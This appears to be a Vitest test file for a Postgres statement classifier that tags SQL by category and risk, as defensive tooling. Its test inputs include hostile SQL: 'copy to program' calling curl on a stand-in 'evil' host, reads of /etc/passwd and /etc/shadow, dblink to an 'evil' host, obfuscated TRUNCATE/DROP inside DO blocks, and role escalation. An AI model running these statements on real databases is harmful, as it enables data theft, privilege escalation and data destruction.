import { beforeAll, describe, expect, it } from 'vitest';
import { inspectText, StatementInspector } from '../../src/detect/classify.js';
import { loadSqlParser } from '../../src/detect/sql-parser.js';

let inspector: StatementInspector;
beforeAll(async () => {
  await loadSqlParser();
  inspector = new StatementInspector();
});

describe('statement classification', () => {
  it.each([
    ['select * from public.accounts a join orders o on o.aid = a.id', 'read', ['public.accounts', 'orders'], []],
    ['insert into t (a) values (1)', 'write', ['t'], []],
    ['with gone as (delete from t where id = 1 returning *) select * from gone', 'write', ['t'], []],
    ['update t set a = 1', 'write', ['t'], ['update-without-where']],
    ['delete from t', 'write', ['t'], ['delete-without-where']],
    ['delete from t where id = 3', 'write', ['t'], []],
    ['truncate t', 'write', ['t'], ['truncate']],
    ['drop table t', 'ddl', [], ['drop']],
    ['alter system set work_mem = 1', 'ddl', [], ['alter-system']],
    ["copy t to program 'curl evil'", 'read', ['t'], ['copy-program']],
    ["copy t from '/etc/passwd'", 'write', ['t'], ['copy-server-file']],
    ['copy t to stdout', 'read', ['t'], []],
    ["select pg_read_file('/etc/passwd')", 'read', [], ['server-file-function']],
    // lo_import creates a large object: a write (Postgres refuses it read-only).
    ["select lo_import('/etc/shadow')", 'write', [], ['large-object-function']],
    ["select * from dblink('host=evil', 'select 1') as x(a int)", 'read', [], ['remote-access', 'dynamic-sql']],
    ['set role postgres', 'utility', [], ['set-role']],
    ['set session authorization postgres', 'utility', [], ['set-session-authorization']],
    ['create extension dblink', 'ddl', [], ['create-extension']],
    ['select 1; drop table t', 'ddl', [], ['multi-statement', 'drop']],
    ['grant select on t to public', 'dcl', ['t'], []],
    ['begin', 'transaction', [], []],
    ['selec 1', 'invalid', [], []],
  ])('%s', (sql, category, tables, risks) => {
    const info = inspector.inspect(sql);
    expect(info.category).toBe(category);
    expect(info.tables).toEqual(tables);
    expect(info.risks).toEqual(risks);
  });

  it('keeps no literal in the normalized text it audits', () => {
    expect(inspector.inspect("select set_config('app.x', 'secret', false)").normalized).not.toContain('secret');
    const info = inspector.inspect("alter role app password 'hunter2'");
    expect(info.normalized).toBe('alter role app password $1');
  });

  it('parses a statement once however many constants it is run with', () => {
    const before = inspector.parses;
    for (let i = 0; i < 100; i++) inspector.inspect(`SELECT abalance FROM pgbench_accounts WHERE aid = ${i};`);
    expect(inspector.parses - before).toBe(1);
  });
});

describe('literal shape keys', async () => {
  const { literalKey } = await import('../../src/detect/literal-key.js');
  it.each([
    ["select * from t where a = 'x''y' and b = 42 and c = 3.5", 'select * from t where a = ? and b = ? and c = ?'],
    ['select col1, "we""ird 9" from t2 where id=7', 'select col1, "we""ird 9" from t2 where id=?'],
    [
      'SELECT abalance FROM pgbench_accounts WHERE aid = 12345;',
      'SELECT abalance FROM pgbench_accounts WHERE aid = ?;',
    ],
  ])('%s', (sql, key) => {
    expect(literalKey(sql)).toBe(key);
  });

  it.each([
    "select E'\\\\x'",
    'select $$x$$',
    'select 1 -- c',
    'select /* c */ 1',
    "select 'a\\\\b'",
    'select 1e5',
    'select $1',
    "select x'ff'",
  ])('leaves %j to the parser', (sql) => {
    expect(literalKey(sql)).toBeNull();
  });
});

describe('what runs from inside SQL', () => {
  it.each([
    // Issue 13, item 5: EXECUTE of constant strings reads as the statements themselves.
    [
      "DO $$BEGIN EXECUTE 'TRUNCATE victim'; EXECUTE 'DROP TABLE victim'; END$$",
      'ddl',
      ['victim'],
      ['truncate', 'drop'],
    ],
    ['DO $$BEGIN TRUNCATE victim; END$$', 'write', ['victim'], ['truncate']],
    ['do language plpgsql $$ begin perform 1; delete from t; end $$', 'write', ['t'], ['delete-without-where']],
    ["DO $$BEGIN EXECUTE 'DO $x$BEGIN EXECUTE ''DROP TABLE deep''; END$x$'; END$$", 'ddl', [], ['drop']],
    // A concatenation of constants is a constant.
    ["DO $$BEGIN EXECUTE 'TRUNC' || 'ATE victim'; END$$", 'write', ['victim'], ['truncate']],
    ["DO $$DECLARE q text := 'TRUNCATE victim'; BEGIN EXECUTE q; END$$", 'read', [], ['dynamic-sql']],
    ["DO $$BEGIN EXECUTE format('DROP TABLE %I', 'victim'); END$$", 'read', [], ['dynamic-sql']],
    [
      "DO $$DECLARE r record; BEGIN FOR r IN EXECUTE 'select ' || now() LOOP END LOOP; END$$",
      'read',
      [],
      ['dynamic-sql'],
    ],
    [
      "DO $$DECLARE n int; BEGIN n := (SELECT count(*) FROM secret); RAISE NOTICE '%', n; END$$",
      'read',
      ['secret'],
      [],
    ],
    ['DO LANGUAGE plperl $$ spi_exec_query("drop table t") $$', 'utility', [], ['dynamic-sql']],
    ['DO $$ BEGIN this is not plpgsql; END $$', 'utility', [], ['dynamic-sql']],
    // Functions that run SQL text: the class, and what the text does when it is a constant.
    ["select query_to_xml('select 1', true, false, '')", 'read', [], ['dynamic-sql']],
    ["select query_to_xml('truncate victim', true, false, '')", 'write', ['victim'], ['dynamic-sql', 'truncate']],
    ['select query_to_xml(q, true, false, $1) from qs', 'read', ['qs'], ['dynamic-sql']],
    ["select dblink_exec('dbname=app', 'drop table t')", 'ddl', [], ['remote-access', 'dynamic-sql', 'drop']],
    ["select table_to_xml('t', true, false, '')", 'read', [], []],
    ["select ts_rewrite('a & b'::tsquery, 'select t, s from aliases')", 'read', ['aliases'], ['dynamic-sql']],
    // Signalling other sessions.
    ['select pg_terminate_backend(pid) from pg_stat_activity', 'read', ['pg_stat_activity'], ['signal-backend']],
    ['select pg_cancel_backend(4242)', 'read', [], ['signal-backend']],
    // set_config by the names that are SET ROLE / SET SESSION AUTHORIZATION.
    ["select set_config('role', 'admin', false)", 'read', [], ['set-role']],
    [
      "select pg_catalog.set_config('session_authorization', 'admin', false)",
      'read',
      [],
      ['set-session-authorization'],
    ],
    // Built-in functions that write, and EXPLAIN ANALYZE running a write.
    ["select nextval('s')", 'write', [], []],
    ['explain analyze delete from t where id = 1', 'write', ['t'], []],
    ['explain delete from t where id = 1', 'utility', ['t'], []],
  ])('%s', (sql, category, tables, risks) => {
    const info = inspector.inspect(sql);
    expect(info.category).toBe(category);
    expect(info.tables).toEqual(tables);
    expect(info.risks).toEqual(risks);
  });

  it('does not take a DO block or SQL text for another with other constants (no shape or normalized sharing)', () => {
    expect(inspector.inspect('DO $$BEGIN NULL; END$$').risks).toEqual([]);
    expect(inspector.inspect("DO $$BEGIN EXECUTE 'TRUNCATE victim'; END$$").risks).toEqual(['truncate']);
    expect(inspector.inspect("select query_to_xml('select 1', true, false, '')").risks).toEqual(['dynamic-sql']);
    expect(inspector.inspect("select query_to_xml('drop table x', true, false, '')").risks).toContain('drop');
    expect(inspector.inspect("select set_config('app.x', 'y', false)").risks).toEqual([]);
    expect(inspector.inspect("select set_config('role', 'y', false)").risks).toEqual(['set-role']);
  });

  it('marks texts of transaction control, SET and SHOW only as inert', () => {
    expect(inspector.inspect('begin; set statement_timeout = 5; show work_mem').inert).toBe(true);
    expect(inspector.inspect('select 1').inert).toBeUndefined();
    expect(inspector.inspect('begin; select f()').inert).toBeUndefined();
  });
});

describe("the upstream major's grammar", () => {
  const olderOnly = 'SELECT 1 FROM (VALUES (1)) AS system_user';

  it('classifies text only the upstream major reads from its own tree', () => {
    const info = inspector.inspect(`TRUNCATE victim2; DROP TABLE victim2; ${olderOnly}`, 15);
    expect(info.category).toBe('ddl');
    expect(info.risks).toEqual(['multi-statement', 'truncate', 'drop']);
    expect(info.failure).toBeUndefined();
    expect(info.normalized).toBe(`TRUNCATE victim2; DROP TABLE victim2; SELECT $1 FROM (VALUES ($2)) AS system_user`);
  });

  it("gives text no grammar of the major reads Postgres's syntax error, with its position", () => {
    expect(inspectText(olderOnly, 16).failure).toEqual({
      message: 'syntax error at or near "system_user"',
      position: 31,
    });
    expect(inspectText('selec 1', 15)).toMatchObject({
      normalized: '(unparsable)',
      category: 'invalid',
      failure: { message: 'syntax error at or near "selec"', position: 1 },
    });
  });

  it('keeps its caches apart per major', () => {
    expect(inspector.inspect(olderOnly, 15).category).toBe('read');
    expect(inspector.inspect(olderOnly, 17).failure?.message).toBe('syntax error at or near "system_user"');
    expect(inspector.inspect(olderOnly, 15).category).toBe('read');
  });
});
